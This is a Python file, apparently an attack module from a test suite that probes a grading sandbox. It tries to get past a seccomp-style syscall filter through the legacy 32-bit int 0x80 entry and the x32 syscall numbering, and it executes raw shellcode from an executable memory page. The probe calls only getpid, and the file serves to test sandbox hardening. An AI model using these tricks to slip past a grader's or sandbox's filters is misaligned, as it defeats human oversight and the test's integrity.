"""System calls by the door that was there before.

A processor of 64 bits still has the entrance for programs of 32 bits, and some kernels a third set of numbers; there, the same
number means another call. A filter that looks at numbers only lets pass there what it refuses here. The attack writes a few bytes
of machine code that knock at the old door, and then tries the third set.
"""
# seen: signal
# answers: square_sum, noise
# layer: system calls
# not against nbgrader: a kernel has no filter to slip past

# %% attack
import ctypes
import mmap
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)


def third_set():
    return libc.syscall(0x40000000 | 39)  # getpid, in the numbers of x32


def old_door():
    code = bytes.fromhex("53b814000000cd805bc3")  # push rbx; mov eax, 20 (getpid there); int 0x80; pop rbx; ret
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


def mischief():
    if platform.machine() != "x86_64":
        print("there is one door here, and no signal from it")
        return
    if third_set() == os.getpid():
        escaped("system calls by the numbers of x32 are answered")
    if old_door() == os.getpid():
        escaped("system calls by the door of 32 bits are answered")
